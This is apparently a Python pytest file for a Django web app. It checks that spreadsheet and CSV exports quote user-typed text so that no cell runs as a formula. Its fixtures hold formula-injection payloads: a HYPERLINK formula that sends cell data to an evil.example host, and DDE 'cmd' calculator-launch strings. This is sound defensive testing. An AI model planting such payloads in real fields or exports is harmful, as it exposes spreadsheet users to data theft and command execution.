"""No download hands a spreadsheet a formula someone typed (issue 13): each export that shows typed text
is downloaded, as someone who may, with text starting with each character a spreadsheet may run (=, +,
-, @, tab, carriage return) in every typed field it shows. Read back, the text is there with a quote
before it, no cell is a formula and no text cell starts like one.

The unit tests of the neutralising itself are in test_exports.py. Exports not here show no typed text:
the self-evaluation reports (element names and fixed labels) and an event's representation (partner
types). Coverage and the missing returns show local authorities' names, which programme staff can change
in the admin, so they are here too. Every cell, titles included, goes through the one writer, so the
other exports that show names (the patch, quarters, windows, readiness, funding) are not repeated here.
"""

import csv
import datetime
import io
from collections.abc import Callable
from dataclasses import dataclass

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from accounts.models import Invitation, Role
from programme.models import Quarter
from regions.models import Champion, LocalAuthority
from tests.case_studies.factories import make_case_study, submitted
from tests.events.factories import make_event, make_registration
from tests.spreadsheets import table
from tests.support_days.factories import make_offer

LONDON = timezone.get_default_timezone()
NOW = datetime.datetime(2013, 11, 15, 12, 0, tzinfo=LONDON)  # in the 2013-14 programme year
GM = "greater-manchester-group"
STARTS = ("=", "+", "-", "@", "\t", "\r")
TYPED = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    '+HYPERLINK("https://evil.example/","Click")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
EMAILS = ["=1+1@evil.example", "+cmd@evil.example", "-2+3@evil.example"]  # valid addresses


@dataclass
class Export:
    person: str  # the shared person who may download it
    url: Callable[[str], str]  # format -> URL
    planted: dict[str, dict[str, list[str]]]  # sheet title -> column -> the typed text in it


@pytest.fixture(autouse=True)
def _frozen(time_machine):
    time_machine.move_to(NOW, tick=False)


def _at(day: datetime.date) -> datetime.datetime:
    return datetime.datetime.combine(day, datetime.time(10), tzinfo=LONDON)


def _registered(request):
    """A workshop of Greater Manchester Group with a confirmed registrant per text, typed in every field."""
    event = make_event(created_by=request.getfixturevalue("champion_staff"), starts_at=_at(datetime.date(2013, 10, 1)))
    for i, text in enumerate(TYPED):
        email = EMAILS[i] if i < len(EMAILS) else f"person{i}@example.com"
        make_registration(event, name=text, email=email, organisation=text, access_needs=text, dietary_needs=text)
    return event


def registration_export(request) -> Export:
    event = _registered(request)
    typed = {"Name": TYPED, "Email": EMAILS, "Organisation": TYPED, "Access needs": TYPED, "Dietary needs": TYPED}
    return Export(
        "champion_staff",
        lambda fmt: reverse("events:registration_export", args=[event.pk, fmt]),
        {"Registrations": typed},
    )


def attendance_export(request) -> Export:
    event = _registered(request)
    typed = {"Name": TYPED, "Organisation": TYPED, "Access needs": TYPED, "Dietary needs": TYPED}
    return Export(
        "champion_staff",
        lambda fmt: reverse("events:attendance_export", args=[event.pk, fmt]),
        {"Attendance list": typed},
    )


def tracker_champion_export(request) -> Export:
    """Greater Manchester Group's events and case studies, titled by its staff."""
    staff = request.getfixturevalue("champion_staff")
    for text in TYPED:
        make_event(created_by=staff, starts_at=_at(datetime.date(2013, 10, 1)), title=text)
        make_case_study(created_by=staff, title=text)
    return Export(
        "champion_staff",
        lambda fmt: reverse("programme:tracker_champion_export", args=["2013-14", GM, fmt]),
        {"Events": {"Title": TYPED}, "Case studies": {"Title": TYPED}},
    )


def tracker_export(request) -> Export:
    """Six champions' case studies counted for quarter 1."""
    staff = request.getfixturevalue("programme_staff")
    for champion, text in zip(Champion.objects.order_by("slug"), TYPED, strict=False):
        submitted(
            created_by=staff,
            champion=champion,
            quarter=Quarter.objects.get(number=1),
            at=_at(datetime.date(2013, 7, 20)),
            title=text,
        )
    return Export(
        "programme_staff",
        lambda fmt: reverse("programme:tracker_export", args=["2013-14", fmt]),
        {"Case studies": {"Case study counted": TYPED}},
    )


def _renamed_las() -> None:
    for local_authority, text in zip(
        LocalAuthority.objects.filter(pathfinder__isnull=True).order_by("slug"), TYPED, strict=False
    ):
        local_authority.name = text
        local_authority.save()


def coverage_export(request) -> Export:
    _renamed_las()
    return Export(
        "programme_staff",
        lambda fmt: reverse("support_days:coverage_export", args=[fmt]),
        {"Support day coverage": {"Local authority": TYPED}},
    )


def missing_export(request) -> Export:
    _renamed_las()
    quarter = Quarter.objects.get(number=1)
    return Export(
        "programme_staff",
        lambda fmt: reverse("self_evaluation:missing_export", args=[quarter.pk, fmt]),
        {f"Missing returns Q{quarter.number}": {"Local authority": TYPED}},
    )


def event_manage_export(request) -> Export:
    staff = request.getfixturevalue("champion_staff")
    for text in TYPED:
        make_event(created_by=staff, starts_at=_at(datetime.date(2013, 12, 1)), title=text)
    return Export(
        "champion_staff", lambda fmt: reverse("events:event_manage_export", args=[fmt]), {"Events": {"Event": TYPED}}
    )


def offer_export(request) -> Export:
    staff = request.getfixturevalue("champion_staff")
    for i, text in enumerate(TYPED):
        make_offer(created_by=staff, date=datetime.date(2013, 12, 2 + i), notes=text)
    return Export(
        "champion_staff",
        lambda fmt: reverse("support_days:offer_export", args=[fmt]),
        {"Offered dates": {"Notes": TYPED}},
    )


def review_export(request) -> Export:
    for text in TYPED:
        submitted(created_by=request.getfixturevalue("champion_staff"), title=text)
    return Export(
        "programme_staff",
        lambda fmt: reverse("case_studies:review_export", args=[fmt]),
        {"Case studies to review": {"Case study": TYPED}},
    )


def invitation_export(request) -> Export:
    staff = request.getfixturevalue("programme_staff")
    for i, text in enumerate(TYPED):
        Invitation.objects.create(
            email=f"person{i}@example.com",
            full_name=text,
            role=Role.LA_OFFICER,
            local_authority=LocalAuthority.objects.get(slug="bolton"),
            invited_by=staff,
            created_at=NOW,
            expires_at=NOW + datetime.timedelta(days=7),
        )
    return Export(
        "programme_staff",
        lambda fmt: reverse("accounts:invitation_export", args=[fmt]),
        {"Invitations": {"Person": TYPED}},
    )


# The tracker's CSVs are their summary sheets, which hold no typed text: only their XLSX is tested.
CSV_EXPORTS = [
    registration_export,
    attendance_export,
    coverage_export,
    missing_export,
    event_manage_export,
    offer_export,
    review_export,
    invitation_export,
]
XLSX_EXPORTS = [*CSV_EXPORTS, tracker_champion_export, tracker_export]


def _download(request, signed_in, build, fmt: str):
    export = build(request)
    response = signed_in(request.getfixturevalue(export.person)).get(export.url(fmt))
    assert response.status_code == 200
    return export, response


def _quoted(texts: list[str], *, xml: bool = False) -> set[str]:
    """The texts as written: after a quote; read from XML, a carriage return reads as a line feed."""
    return {("'" + text).replace("\r", "\n") if xml else "'" + text for text in texts}


@pytest.mark.parametrize("build", CSV_EXPORTS, ids=lambda build: build.__name__)
def test_it_quotes_typed_text_in_the_csv(request, reference_data, signed_in, build):
    export, response = _download(request, signed_in, build, "csv")
    header, *rows = list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"))))
    assert [cell for row in rows for cell in row if cell.startswith(STARTS)] == []
    [(_title, columns)] = export.planted.items()  # a CSV is one sheet
    for column, texts in columns.items():
        assert _quoted(texts) <= {row[header.index(column)] for row in rows}, column


@pytest.mark.parametrize("build", XLSX_EXPORTS, ids=lambda build: build.__name__)
def test_it_writes_typed_text_in_the_xlsx_as_quoted_text_never_a_formula(request, reference_data, signed_in, build):
    export, response = _download(request, signed_in, build, "xlsx")
    workbook = openpyxl.load_workbook(io.BytesIO(response.getvalue()))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert [cell.value for cell in cells if isinstance(cell.value, str) and cell.value.startswith(STARTS)] == []
    for title, columns in export.planted.items():
        header, *rows = table(workbook[title], values_only=False)
        names = [cell.value for cell in header]
        for column, texts in columns.items():
            found = [row[names.index(column)] for row in rows]
            assert _quoted(texts, xml=True) <= {cell.value for cell in found}, (title, column)
            assert {cell.data_type for cell in found if cell.value in _quoted(texts, xml=True)} == {"s"}
